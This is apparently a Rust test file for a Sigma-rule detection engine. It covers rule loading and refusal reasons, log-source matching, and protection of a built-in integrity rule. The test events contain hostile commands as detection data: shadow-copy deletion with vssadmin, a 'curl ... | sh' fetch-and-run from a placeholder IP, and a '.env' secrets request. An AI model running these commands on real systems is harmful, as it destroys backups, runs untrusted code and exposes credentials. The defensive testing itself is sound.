//! A folder in SigmaHQ layout: what loads, what is refused and why, and which events the rules meet.

use std::borrow::Cow;
use std::path::Path;
use std::sync::LazyLock;

use expect_test::expect;
use medward_contract::Timestamp;
use medward_contract::event::{Dataset, Event, Field, Outcome};
use medward_sigma::{DetectionEngine as _, Engine, LoadReport, RuleFile, RulePack, Source, Sources};

use crate::scenario::folder;

/// Files below the folder, by path.
fn files(root: &Path) -> Vec<RuleFile> {
    let mut folders = vec![root.to_owned()];
    let mut files = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                let name = path.strip_prefix(root).unwrap().to_str().unwrap().to_owned();
                if RuleFile::is_rule(&name) {
                    files.push(RuleFile { name, bytes: Cow::Owned(std::fs::read(&path).unwrap()) });
                }
            }
        }
    }
    files.sort_by(|one, other| one.name.cmp(&other.name));
    files
}

fn imported() -> (Engine, LoadReport) {
    let mut engine = Engine::default();
    let report = engine.load(&RulePack::builtin().with_files(files(&folder("tests/sigmahq/rules"))));
    (engine, report)
}

#[test]
fn each_rule_that_does_not_load_is_named_with_file_id_and_reason() {
    let (_, report) = imported();
    let mut told: Vec<String> = report.refused.iter().map(ToString::to_string).collect();
    told.sort_unstable();
    expect![[r"
        load rule - of broken/not_yaml.yml: is not YAML: unclosed bracket '{' at line 3, column 12
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000005 of broken/condition.yml: does not compile: unknown detection identifier: nothing
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000006 of broken/lookahead.yml: a regular expression is not understood, or takes more than 1048576 bytes
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000008 of broken/unnamed_source.yml: names no product, category or service
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000009 of broken/placeholder.yml: list %Domain_Admins% is not defined
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000011 of broken/silencer.yml: refers to 7b5d4c5e-0000-0000-0000-000000000000, which is not loaded or refers back to it
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000012 of broken/silencer.yml: refers to 7b5d4c5e-1a2b-4f6e-9c3d-000000000013, which is not loaded or refers back to it
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000013 of broken/silencer.yml: refers to 7b5d4c5e-1a2b-4f6e-9c3d-000000000012, which is not loaded or refers back to it
        load rule 7b5d4c5e-1a2b-4f6e-9c3d-000000000014 of broken/given_up.yml: its author gave it up: status deprecated
        load rule MW-040 of broken/taken.yml: its id stands in medward/MW-040.yml already"]].assert_eq(&told.join("\n"));
}

#[test]
fn rules_that_are_refused_hinder_no_other() {
    let (engine, report) = imported();
    let mut foreign: Vec<&str> = report.loaded.iter().map(String::as_str).filter(|id| !id.starts_with("MW-")).collect();
    foreign.sort_unstable();
    let ids = [1, 2, 3, 4, 10].map(|number| format!("7b5d4c5e-1a2b-4f6e-9c3d-0000000000{number:02}"));
    assert_eq!(foreign, ids);
    assert_eq!(report.loaded.len() - foreign.len(), {
        let mut own = Engine::default();
        own.load(&RulePack::builtin()).loaded.len()
    });
    assert_eq!(engine.rule("MW-040").unwrap().title, "存证校验失败", "an import takes nobody's place");
    let rule = engine.rule("7b5d4c5e-1a2b-4f6e-9c3d-000000000001").unwrap();
    assert_eq!(rule.author.as_deref(), Some("Somebody"), "author and link stay (DRL 1.1)");
    assert_eq!(rule.references, ["https://attack.mitre.org/techniques/T1490/"]);
}

/// Ids of imported rules that this event meets and matches.
fn check(event: Event, expected: &[u32]) {
    static ENGINE: LazyLock<Engine> = LazyLock::new(|| imported().0);
    let hits = ENGINE.detect(&event, &Sources::of(&event));
    let found: Vec<String> = hits.iter().map(|hit| hit.rule.id.clone()).filter(|id| !id.starts_with("MW-")).collect();
    let expected: Vec<String> =
        expected.iter().map(|number| format!("7b5d4c5e-1a2b-4f6e-9c3d-0000000000{number:02}")).collect();
    assert_eq!(found, expected, "{}", event.dataset);
}

fn event(dataset: Dataset) -> Event {
    Event::new(dataset, dataset.actions()[0], Timestamp::from_micros(0))
}

#[test]
fn public_field_names_mean_the_fields_of_the_vault() {
    let process = event(Dataset::HostProcess)
        .attr("host.os.type", "windows")
        .attr("process.executable", r"C:\Windows\System32\vssadmin.exe")
        .set(Field::ProcessCommandLine, "vssadmin.exe Delete Shadows /all");
    check(process, &[1]);
    let process = event(Dataset::HostProcess)
        .attr("host.os.type", "linux")
        .set(Field::ProcessCommandLine, "curl http://198.51.100.7/a | sh");
    check(process, &[2]);
    let login = event(Dataset::HostLogin)
        .set(Field::ProcessName, "sshd")
        .set(Field::Message, "Invalid user oracle from 203.0.113.9")
        .set(Field::EventOriginal, b"sshd[7]: Invalid user oracle from 203.0.113.9".to_vec());
    check(login, &[3]);
    let request = event(Dataset::AccessRequest)
        .set(Field::HttpMethod, "GET")
        .set(Field::UrlPath, "/app/.env")
        .set(Field::HttpStatus, 200_u16);
    check(request, &[4]);
}

#[test]
fn event_never_meets_a_rule_of_another_log_source() {
    // Everything that any of the rules looks for, in every kind of event: only those of its own source may match.
    for source in Source::all() {
        let Source::Native(dataset) = source else { continue };
        let everything = event(dataset)
            .attr("process.executable", r"C:\vssadmin.exe")
            .set(Field::ProcessCommandLine, "delete shadow; curl x | sh")
            .set(Field::Message, "Invalid user oracle")
            .set(Field::HttpMethod, "GET")
            .set(Field::UrlPath, "/.env")
            .set(Field::HttpStatus, 200_u16);
        let expected: &[u32] = if dataset.stream().as_str() == "access" { &[4] } else { &[] };
        check(everything.clone(), expected);
        for os in ["linux", "windows"] {
            let expected: &[u32] = match (dataset, os) {
                (Dataset::HostProcess, "windows") => &[1],
                (Dataset::HostProcess, "linux") => &[2],
                _ => expected,
            };
            check(everything.clone().attr("host.os.type", os), expected);
        }
    }
}

#[test]
fn no_import_silences_a_rule_of_medward() {
    let (mut engine, _) = imported();
    let failed = event(Dataset::VaultVerify).outcome(Outcome::Failure).attr("vault.result", "CHANGED");
    for _ in 0..3 {
        let hits = engine.detect(&failed, &Sources::of(&failed));
        let signals = engine.correlate(&failed, hits, failed.timestamp);
        assert_eq!(signals.iter().map(|signal| signal.rule.id.as_str()).collect::<Vec<_>>(), ["MW-040"]);
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(200))]

    /// Files as somebody who means harm, or a bad disk, would hand them in: a real one with bytes exchanged, cut and repeated.
    #[test]
    fn whatever_a_file_holds_the_rules_of_medward_stand(
        picked in 0_usize..64,
        edits in proptest::collection::vec((proptest::prelude::any::<proptest::sample::Index>(), "[ -~\\n十]{0,12}", 0_usize..40), 1..6),
    ) {
        let builtin = RulePack::builtin();
        let mut bytes = builtin.files[picked % builtin.files.len()].bytes.to_vec();
        for (place, text, length) in &edits {
            let start = place.index(bytes.len() + 1);
            let end = (start + length).min(bytes.len());
            bytes.splice(start..end, text.bytes());
        }
        let hostile = RuleFile { name: "hostile.yml".into(), bytes: Cow::Owned(bytes) };
        let own = RuleFile { name: "own.yml".into(), ..builtin.files[39].clone() };
        let mut engine = Engine::default();
        let report = engine.load(&RulePack::default().with_files([own, hostile]));
        proptest::prop_assert!(report.loaded.contains(&"MW-040".to_owned()));
        proptest::prop_assert!(report.refused.iter().all(|refused| refused.file == "hostile.yml"));
        let failed = event(Dataset::VaultVerify).outcome(Outcome::Failure);
        let hits = engine.detect(&failed, &Sources::of(&failed));
        let signals = engine.correlate(&failed, hits, failed.timestamp);
        proptest::prop_assert!(signals.iter().any(|signal| signal.rule.id == "MW-040"));
    }
}
